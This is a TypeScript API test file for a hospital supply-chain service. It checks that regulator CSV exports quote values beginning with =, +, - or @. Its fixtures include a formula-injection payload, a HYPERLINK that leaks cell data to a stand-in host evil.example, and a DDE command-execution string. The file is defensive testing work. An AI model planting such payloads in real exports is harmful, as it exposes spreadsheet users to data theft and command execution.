import { expect } from "chai";
import { parse } from "csv-parse/sync";
import type { FastifyInstance } from "fastify";
import { forEachEngine } from "../../helpers/engines";
import { GTIN, LOT, type ChainStack, type Procurement } from "../../support/chain";
import {
  bearer,
  chainIso,
  loginAll,
  receiveWholeShipment,
  startApi,
  stopApi,
  type ApiStack,
} from "../../support/api-fixtures";

/**
 * The CSV a regulator downloads never holds a live spreadsheet formula: a receipt number or a
 * department that a hospital typed as "=…", "+…", "-…" or "@…" arrives quoted inert ('=…).
 */
forEachEngine((engine) => {
  let stack: ApiStack;
  let app: FastifyInstance;
  let chain: ChainStack;
  let p: Procurement;
  let t: Record<"receiver" | "regulator" | "supplier", string>;
  const receiptNo = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  const departments = ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)"];

  before(async function () {
    this.timeout(180_000);
    stack = await startApi(engine.db);
    ({ app, chain, p } = stack);
    t = await loginAll(app, {
      receiver: chain.cast.receiver,
      regulator: chain.cast.regulator,
      supplier: chain.cast.supplier,
    });
    await receiveWholeShipment(app, chain, t, p, receiptNo, "gr-formula");
    // Not settled (the payment worker is not drained), so the shipment is an overdue payment once
    // a minute has passed on the ledger's clock, by which the report counts.
    await chain.advance(60);
    const usedAt = await chainIso(chain, -60);
    for (const [i, department] of departments.entries()) {
      const res = await app.inject({
        method: "POST",
        url: "/v1/usages",
        headers: { ...bearer(t.receiver), "idempotency-key": `u-${i}` },
        payload: {
          usageId: `U-${i}`,
          barcode: `(01)${GTIN}(10)${LOT}(21)${p.serials[i]}`,
          department,
          patientRef: `MRN-${i}`,
          usedAt,
          billingCode: "C0401-DES-PCI",
          billedAmount: "10000",
        },
      });
      expect(res.statusCode, res.body).to.equal(201);
    }
  });

  after(() => stopApi(stack));

  async function csvOf(url: string): Promise<Record<string, string>[]> {
    const res = await app.inject({
      method: "GET",
      url,
      headers: { ...bearer(t.regulator), accept: "text/csv" },
    });
    expect(res.statusCode, res.body).to.equal(200);
    expect(res.headers["content-type"]).to.match(/^text\/csv/);
    return parse(res.body, { columns: true });
  }

  it("quotes a receipt number that starts with = in the overdue payments CSV", async function () {
    const rows = await csvOf("/v1/payments/overdue?days=0");
    expect(rows.map((r) => r.receipt_no)).to.deep.equal([`'${receiptNo}`]);
    // Figures stay figures.
    expect(rows[0].accepted).to.equal("10");
  });

  it("quotes departments that start with =, +, - or @ in the recall exposure CSV", async function () {
    const rows = await csvOf(`/v1/recalls/${GTIN}/${LOT}/exposure`);
    expect(rows.map((r) => r.department).sort()).to.deep.equal(departments.map((d) => `'${d}`).sort());
    for (const row of rows) expect(row.usages).to.equal("1");
  });
});
